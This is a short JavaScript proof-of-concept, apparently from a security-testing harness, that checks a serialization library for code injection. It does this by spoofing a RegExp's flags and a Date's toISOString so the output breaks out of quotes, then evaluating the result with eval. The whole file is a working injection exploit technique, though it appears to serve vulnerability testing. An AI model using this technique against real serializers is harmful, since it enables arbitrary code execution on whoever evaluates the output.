// PoC: objects whose RegExp flags / Date ISO string are not what the built-ins return; the
// serialized output is evaluated by whoever receives it.
const ase = require(process.env.ASE_HELPERS + '/poc.cjs');

ase.codeInjection(async ({ expression, payloads }) => {
  const serialize = require(process.env.ASE_REPO);
  for (const e of [expression, ...payloads]) {
    const re = /a/;
    Object.defineProperty(re, 'flags', { value: '"+(' + e + ')+"' });
    const d = new Date(0);
    d.toISOString = () => '"+(' + e + ')+"';
    for (const value of [{ re }, { d }]) {
      try { eval('(' + serialize(value) + ')'); } catch { /* refused */ }
    }
  }
});
